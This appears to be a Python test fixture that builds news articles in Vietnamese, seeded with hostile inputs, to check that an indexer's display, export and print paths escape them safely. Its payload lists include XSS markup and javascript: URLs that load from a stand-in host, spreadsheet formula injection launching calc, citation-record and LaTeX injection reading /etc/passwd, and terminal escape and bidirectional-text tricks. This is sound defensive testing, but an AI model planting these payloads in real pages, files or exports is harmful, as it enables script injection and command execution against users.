"""Articles that attack whoever shows, exports or prints them, as a collection would bring them."""

import html
import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from indexer import pipeline

_RUN = "window.hacked=1"
_AWAY = "//evil.test/x"
MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<script src={_AWAY}.js></script>",
    f"</title></textarea></style></noscript><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src={_AWAY} onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f'" autofocus onfocus={_RUN} x="',
    f"' onmouseover={_RUN} x='",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1>",
    f"<a href=javascript:{_RUN}>x</a><object data={_AWAY}><embed src={_AWAY}>",
    f"<style>@import '{_AWAY}.css';*{{background:url({_AWAY})}}</style>",
    f"<link rel=stylesheet href={_AWAY}.css><base href={_AWAY}>",
    f'<meta http-equiv=refresh content="0;url={_AWAY}">',
    f"<form action={_AWAY}><input name=q><button formaction={_AWAY}>",
    f"<details open ontoggle={_RUN}><x-hostile onx=1>",
    f"<math><mtext></p><mglyph><style><!--</style><img src=x onerror={_RUN}>",
    f"<!--><script>{_RUN}</script--><!]]><![CDATA[<script>{_RUN}</script>]]>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62;",
    "&amp;lt;b&amp;gt; &#x110000; &#0; &bogus; &lt <",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e ‹script›",
    f"<mark>x</mark><mark onclick={_RUN}> <b <i",
    "{{ 7*7 }}{% raw %}${7*7} %(x)s %s {0}",
    "\\u003cscript\\u003e \\x3cscript\\x3e </script>\u2028\u2029 */ // `${1}`",
)
ADDRESSES = (
    f"javascript:{_RUN}",
    f" javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//http://a.vn",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f'http://a.vn/"onmouseover="{_RUN}',
    f"http://a.vn/'><script>{_RUN}</script>",
    f"http://a.vn/\njavascript:{_RUN}",
    "http://[::1",
    "http://a:99999/x",
    "//evil.test/x",
    f"http://javascript:{_RUN}@a.vn/\x00\x1b[31m",
    "https://a.vn/x?{%22}\\},\n  injected = {y}",
    "file:///etc/passwd",
)
FORMULAS = tuple(
    before + sign + "cmd|'/c calc'!A0"
    for before in (
        "",
        " ",
        "\t",
        "\u00a0",
        "'",
        '"',
        " \"'",
        "\u200b",
        "\ufeff",
        "\r\n",
        "\u3000",
        "a;",
    )
    for sign in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t=", "\r=")
)
RECORDS = (
    "Tin\r\nER  - \r\nTY  - JOUR\r\nAU  - Injected",
    "Tin\nUR  - http://evil.test",
    "Tin\x85ER  - \u2028AU  - Injected\x0bKW  - x\x0cN1  - y\x1cER  - ",
    "Tin},\n  injected = {yes}\n}\n@misc{other, title={x}",
    "}} @string{a=1} {{",
    "\\input{/etc/passwd} \\write18{id} $x^2$ % comment \\",
    'Tin"\n@comment{ # & _ ~ ^',
    "BEGIN:VCARD\r\nFN:Injected\r\nEND:VCARD",
    "A và B, injected = {x}",
)
TERMINAL = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m\x9d0;title\x9c\x90q\x9c",
    "over\rwritten\x08\x08\x7f\x00 [red]rich[/red] [link=http://evil.test]x[/link] :bomb:",
    "".join(chr(code) for code in (*range(32), *range(127, 160))),
)
DIRECTIONS = (
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "\u202e" * 50,
    "a" + "\u0301" * 500,
    "\U000e0041\ufff9x\ufffb \ufffe \uffff \U0010ffff \ud800",
    "\u200b\u2060\ufeff\u00ad",
)
PAYLOADS = (*TERMINAL, *DIRECTIONS, *RECORDS, *ADDRESSES, *MARKUP, *FORMULAS)
_FIELDS = ("title", "body", "url", "source", "author", "cities", "topics", "captions", "id", "date")


def records(count: int) -> Iterator[dict[str, Any]]:
    """Yield articles: in each another payload in every field, so that each comes to stand in all.

    There are many more names of cities and topics than a page shows: eleven of each are made.
    """
    for number in range(count):
        # Formulas are two thirds of all payloads; a browser is to meet markup in each article.
        kinds = (MARKUP, PAYLOADS) if number % 2 else (PAYLOADS, MARKUP)
        given = {
            field: kinds[at % 2][(number // 2 + at * 7) % len(kinds[at % 2])]
            for at, field in enumerate(_FIELDS)
        }
        yield {
            **given,
            "id": f"{given['id']}{number}",
            "body": f"Tin số {number} {given['body']}\nĐoạn hai: {given['title']} hết.",
            "url": ADDRESSES[number % len(ADDRESSES)],
            "cities": [PAYLOADS[number % 11 * 9], "Hải Phòng"],
            "topics": [PAYLOADS[number % 11 * 9 + 4], "Covid-19"],
            "captions": [given["captions"], "Ảnh"],
            "date": given["date"] if number % 3 else f"2021-03-{number % 28 + 1:02}",
        }


def build(folder: Path, count: int) -> Path:
    """Return the root of an index of `count` articles, as the pipeline makes it of their files."""
    _write_jsonl(folder / "articles.jsonl", count * 3 // 4)
    _write_pages(folder / "pages", count // 4)
    report = pipeline.rebuild([folder / "articles.jsonl", folder / "pages"], folder / "index")
    assert report.indexed > count * 0.97, "some pages are binary, or no UTF-8"
    return folder / "index"


def _write_jsonl(path: Path, count: int) -> None:
    """Write articles as lines of JSON."""
    path.write_text("".join(f"{json.dumps(own)}\n" for own in records(count)), "ascii")


def _write_pages(folder: Path, count: int) -> None:
    """Write articles as saved pages: the payload as text, as markup, and in what they state."""
    folder.mkdir()
    for number, payload in enumerate(itertools.islice(itertools.cycle(PAYLOADS), count)):
        text, raw = html.escape(payload), payload.replace("\0", "")
        stated = json.dumps({"@type": "NewsArticle", "headline": payload, "author": payload})
        page = f"""<!doctype html><html><head><title>Trang {number} {text}</title>
<meta property="og:title" content="{text}"><meta name="author" content="{text}">
<link rel="canonical" href="{text}"><script type="application/ld+json">{stated}</script></head>
<body><article><h1>Trang {number} {text}</h1><p>Hải Phòng, ngày 3/2/2021. {text} Họp bàn.</p>
<p>Hội nghị bàn về chuyển đổi số của thành phố trong năm nay. {raw}</p>
<figure><img src="a.jpg" alt="{text}"><figcaption>Ảnh {text}</figcaption></figure>
<p>Các đại biểu nhất trí với kế hoạch, {text}, và giao các sở.</p></article></body></html>"""
        (folder / f"trang {number} <b>.html").write_bytes(page.encode("utf-8", "surrogatepass"))
